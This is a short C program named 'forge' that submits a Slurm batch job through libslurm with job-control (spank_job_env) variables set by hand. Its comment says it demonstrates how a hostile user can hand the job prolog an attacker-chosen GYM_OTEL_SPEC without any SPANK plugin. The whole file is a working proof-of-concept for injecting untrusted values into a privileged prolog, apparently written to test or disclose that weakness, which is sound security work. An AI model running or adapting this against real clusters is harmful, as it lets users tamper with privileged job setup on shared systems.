/*
 * forge: submit a batch job through libslurm with job-control variables set
 * by hand (the job's spank_job_env), without any SPANK plugin involved: what
 * a hostile user can do to hand the job prolog a GYM_OTEL_SPEC of their own.
 *
 *   forge SPEC WORKDIR OUTPUT NODE   prints "Submitted batch job N"
 */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include <slurm/slurm.h>
#include <slurm/slurm_errno.h>

extern char **environ;

int main(int argc, char **argv)
{
	job_desc_msg_t d;
	submit_response_msg_t *resp = NULL;
	char *senv[2];
	size_t n = strlen("GYM_OTEL_SPEC=") + (argc > 1 ? strlen(argv[1]) : 0) + 1;
	char *spec = malloc(n);
	uint32_t envc = 0;

	if (argc != 5 || !spec) {
		fprintf(stderr, "usage: forge SPEC WORKDIR OUTPUT NODE\n");
		return 2;
	}
	slurm_init(NULL);
	slurm_init_job_desc_msg(&d);
	snprintf(spec, n, "GYM_OTEL_SPEC=%s", argv[1]);
	senv[0] = spec;
	senv[1] = "GYM_OTEL_TOKEN=x";
	d.spank_job_env = senv;
	d.spank_job_env_size = 2;
	d.name = "forged";
	d.script = "#!/bin/sh\necho forged\n";
	d.user_id = getuid();
	d.group_id = getgid();
	d.work_dir = argv[2];
	d.std_out = argv[3];
	d.min_nodes = 1;
	d.req_nodes = argv[4];
	while (environ[envc])
		envc++;
	d.environment = environ;
	d.env_size = envc;
	if (slurm_submit_batch_job(&d, &resp) != SLURM_SUCCESS || !resp) {
		slurm_perror("slurm_submit_batch_job");
		return 1;
	}
	printf("Submitted batch job %u\n", resp->job_id);
	return 0;
}
